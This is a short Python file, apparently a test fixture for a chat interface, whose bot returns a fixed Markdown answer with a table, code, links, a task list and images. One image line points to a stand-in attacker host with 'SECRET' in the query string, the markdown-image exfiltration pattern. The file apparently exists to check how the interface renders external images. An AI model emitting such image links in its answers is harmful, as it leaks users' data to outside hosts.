"""Answers with GFM: a table, fenced code, links, task lists and images."""

from __future__ import annotations

import backend as gr

PIXEL = (
    "data:image/png;base64,"
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
)

ANSWER = f"""## Results

| tool | requests |
| :--- | ---: |
| chatbubble | 1 |
| other | 10 |

```python
def add(a, b):
    return a + b
```

See [the docs](https://docs.example/guide) or mail [us](mailto:team@example.com).

- [x] done task
- [ ] open task

![own image](/logo.png) ![pixel]({PIXEL})
![tracker](https://attacker.example/pixel.png?d=SECRET)
"""


def answer(message: str, history: list[dict[str, str]]) -> str:
    return ANSWER


demo = gr.ChatInterface(fn=answer, type="messages")
